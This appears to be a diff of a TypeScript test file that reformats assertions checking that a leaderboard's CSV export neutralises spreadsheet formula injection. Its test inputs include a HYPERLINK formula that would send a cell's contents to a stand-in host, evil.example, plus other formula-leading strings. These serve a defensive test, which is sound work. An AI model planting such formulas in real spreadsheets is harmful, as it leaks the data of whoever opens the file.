@@ -25,10 +25,20 @@ describe('leaderboard formats', () => {
   it('CSV neutralises cells a spreadsheet would run as formulas; numbers stay numbers', () => {
     const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
     const csv = leaderboardCsv(evil.map((variant, i) => ({ ...leaderboardRow(exampleTrialResult({ valAccuracy: 0.5 }), i + 1), variant })));
-    const variants = csv.trimEnd().split('\n').slice(1).map((line) => line.split(',')[6]!);
+    const variants = csv
+      .trimEnd()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.split(',')[6]!);
     expect(variants[0]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
     expect(variants.slice(1)).toEqual(["'+1+2", "'-2+3", "'@SUM(A1)", "'\\x09=1", "'\\x0d=1"]);
-    for (const line of csv.trimEnd().split('\n').slice(1)) expect(line.split(',').slice(6).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+    for (const line of csv.trimEnd().split('\n').slice(1))
+      expect(
+        line
+          .split(',')
+          .slice(6)
+          .every((cell) => !/^[=+\-@\t\r]/.test(cell)),
+      ).toBe(true);
     const negative = leaderboardCsv([{ ...rows[0]!, trainingSeconds: -1 }]);
     expect(negative).toContain(',-1,');
   });
@@ -57,7 +67,9 @@ describe('noise-aware leaderboard formats', () => {
     expect(table).toMatch(/≈ P\n/);
     expect(table).toContain('infeasible: imagesPerSecond 50 < min 100');
     expect(table).toContain('statistically tied with the best');
-    const csv = leaderboardCsv([{ ...base, tiedWithBest: true, paretoOptimal: false }]).trimEnd().split('\n');
+    const csv = leaderboardCsv([{ ...base, tiedWithBest: true, paretoOptimal: false }])
+      .trimEnd()
+      .split('\n');
     expect(csv[0]).toMatch(/,valLow,valHigh,tiedWithBest,paretoOptimal,infeasible$/);
     expect(csv[1]).toMatch(new RegExp(`,${base.valInterval[0]},${base.valInterval[1]},true,false,$`));
   });
